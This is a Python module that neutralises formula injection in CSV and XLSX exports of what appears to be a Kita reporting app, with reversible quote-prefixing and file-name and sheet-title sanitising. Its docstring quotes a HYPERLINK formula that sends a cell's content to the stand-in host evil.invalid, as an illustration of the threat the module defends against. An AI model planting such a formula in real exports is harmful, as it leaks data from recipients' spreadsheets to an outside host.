"""Cells that stay data in a spreadsheet: formula neutralisation for every CSV and XLSX export.

Why: a Kita leader's free answer ``=HYPERLINK("http://evil.invalid/?x="&A1;"x")`` written
unchanged into a CSV becomes a live formula when the Jugendamt opens the file (OWASP "CSV
injection"). OWASP's guidance: a text cell beginning with ``=``, ``+``, ``-``, ``@``, tab or
carriage return is prefixed with a single quote, so every spreadsheet program shows it as
text. Numbers (``int``, ``float``, ``Decimal``) are never touched: they are no text and stay
numeric cells (XLSX) or plain numbers (CSV).

The prefix is reversible: ``restore`` undoes exactly what ``inert`` did, so the import of our
own export reads back the original text. To make that lossless, a text that already begins
with quotes followed by a trigger (``'=x``) gets one more quote (``''=x``); any other text,
including one with an ordinary leading apostrophe (``'s Gärtle``), is left as it is on both
ways.

``defusedcsv`` (PyPI) was considered: it leaves ``-2`` typed as text unprefixed, does not
cover tab and carriage return, escapes ``|`` irreversibly and covers CSV only; the rule here
is ten lines and serves CSV and XLSX alike.

Bottom layer: pure, imports no app.
"""

from __future__ import annotations

import re

FORMULA_TRIGGERS = frozenset("=+-@\t\r")
PREFIX = "'"

_UNSAFE_FILENAME = re.compile(r"[^A-Za-z0-9._-]+")
_INVALID_SHEET_TITLE = re.compile(r"[\[\]:*?/\\\x00-\x1f]")


def _starts_like_formula(text: str) -> bool:
    return text.lstrip(PREFIX)[:1] in FORMULA_TRIGGERS


def inert(value):
    """``value`` as an export cell: a text that a spreadsheet could run gets the ``'`` prefix;
    numbers, dates, ``None`` and harmless text come back unchanged."""
    if isinstance(value, str) and _starts_like_formula(value):
        return PREFIX + value
    return value


def inert_row(values) -> list:
    """``inert`` over one row of cells."""
    return [inert(value) for value in values]


def restore(value):
    """The inverse of ``inert`` for an imported cell: ``'=SUM(1)`` -> ``=SUM(1)``."""
    if isinstance(value, str) and value.startswith(PREFIX) and _starts_like_formula(value[1:]):
        return value[1:]
    return value


def safe_filename(name: str, *, fallback: str = "export") -> str:
    """A download file name that is safe in a ``Content-Disposition`` header: letters,
    digits, ``.``, ``-`` and ``_`` only (a stored round code with CR/LF or quotes cannot
    break the header)."""
    cleaned = _UNSAFE_FILENAME.sub("_", str(name)).strip("._")
    return cleaned[:150] or fallback


def sheet_title(title: str, *, fallback: str = "Tabelle") -> str:
    """A worksheet title Excel accepts: no ``[]:*?/\\`` or control characters, 31 characters."""
    cleaned = _INVALID_SHEET_TITLE.sub("-", str(title)).strip("'")
    return cleaned[:31] or fallback
